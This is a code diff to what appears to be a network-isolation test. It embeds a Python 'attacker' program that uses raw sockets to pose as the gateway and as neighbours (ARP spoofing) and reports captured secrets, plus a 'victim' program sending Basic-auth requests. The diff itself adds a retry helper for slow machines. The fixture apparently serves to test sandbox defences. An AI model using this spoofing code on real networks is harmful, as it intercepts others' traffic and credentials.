@@ -13,11 +13,23 @@ const victimSeconds = 10;
 /** Attackers that are not ended otherwise. */
 const attackSeconds = 100;
 
+/** A machine under load may take longer to let a step speak than the step's kernel looks for its gateway. */
+const meetProgram = `
+import errno, time, urllib.request
+def meet(url):
+    end = time.monotonic() + 60
+    while True:
+        try: return urllib.request.urlopen(url, timeout=60).read()
+        except OSError as error:
+            code = getattr(getattr(error, "reason", None), "errno", None)
+            if code != errno.EHOSTUNREACH or time.monotonic() > end: raise
+`;
+
 /**
  * Prints `READ` and a secret for each that it has read. Tells all that the gateway is here, tells the gateway that all
  * neighbours are here, sends frames in the name of their cards, and passes on what arrives for others.
  */
-export const attackerProgram = `
+export const attackerProgram = `${meetProgram}
 import fcntl, os, socket, struct, sys, threading, time, urllib.request
 base = sys.argv[1]
 secrets = [b"${password}", b"${answer}"]
@@ -26,7 +38,7 @@ raw.bind(("eth0", 0))
 def card(code): return fcntl.ioctl(raw, code, struct.pack("256s", b"eth0"))
 mac, ip = card(0x8927)[18:24], card(0x8915)[20:24]
 gateway = next(socket.inet_ntoa(struct.pack("<I", int(line.split()[2], 16))) for line in open("/proc/net/route") if line.split()[1] == "00000000" and line.split()[2] != "00000000")
-urllib.request.urlopen(base + "/attacker", timeout=10).read()
+meet(base + "/attacker")
 at = next(line.split()[3] for line in open("/proc/net/arp") if line.split()[0] == gateway)
 gateway_mac, gateway_ip = bytes.fromhex(at.replace(":", "")), socket.inet_aton(gateway)
 neighbours = [ip[:3] + bytes([last]) for last in range(2, 12) if last != ip[3]]
@@ -65,10 +77,10 @@ print("ATTACKED")
 `;
 
 /** Prints `ANSWERED` when all its requests were, else `UNANSWERED`. */
-export const victimProgram = `
+export const victimProgram = `${meetProgram}
 import sys, time, urllib.request
 base, missed = sys.argv[1], 0
-urllib.request.urlopen(base + "/victim", timeout=60).read()
+meet(base + "/victim")
 end = time.monotonic() + ${victimSeconds}
 while time.monotonic() < end:
     request = urllib.request.Request(f"{base}/package", headers={"Authorization": "Basic ${password}"})
